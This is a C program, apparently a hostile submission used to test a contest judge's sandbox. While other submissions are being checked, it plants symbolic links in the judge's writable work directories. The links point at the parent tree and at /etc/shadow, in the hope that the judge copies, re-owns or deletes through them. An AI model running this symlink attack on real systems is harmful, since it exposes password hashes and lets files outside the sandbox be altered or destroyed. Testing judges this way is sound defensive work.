/* Hostile: while other submissions of the same run build and are checked, plants symbolic
   links in every directory of the judge's work tree it can write (builds and feedback
   directories that belong to the case uid), pointing at the directory that holds the work
   tree, and swaps subdirectories for such links, hoping the judge re-owns, copies or
   deletes through them. Then answers wrongly: WA. The tests check afterwards that nothing
   outside the work tree changed. */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static void plant(const char *dir, const char *target) {
    char p[8192];
    snprintf(p, sizeof p, "%s/sub", dir);
    mkdir(p, 0777);
    rmdir(p);
    symlink(target, p);
    snprintf(p, sizeof p, "%s/prog", dir);
    /* A link where the compiler's output goes; only where we may write (our own dirs). */
    if (access(dir, W_OK) == 0 && unlink(p) == 0) symlink(target, p);
    snprintf(p, sizeof p, "%s/judgemessage.txt", dir);
    symlink("/etc/shadow", p);
}
int main(void) {
    char cwd[4096], root[4200], base[4300];
    if (!getcwd(cwd, sizeof cwd)) { puts("-1"); return 0; }
    snprintf(root, sizeof root, "%s/..", cwd);
    snprintf(base, sizeof base, "%s/../..", cwd);
    char target[4096];
    if (!realpath(base, target)) strcpy(target, "/");
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        DIR *d = opendir(root);
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            char p[8192];
            snprintf(p, sizeof p, "%s/%s", root, e->d_name);
            if (access(p, W_OK) == 0) plant(p, target);
            char fb[8300];
            snprintf(fb, sizeof fb, "%s/feedback", p);
            if (access(fb, W_OK) == 0) plant(fb, target);
        }
        if (d) closedir(d);
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 < 150);
    puts("-1");
    return 0;
}
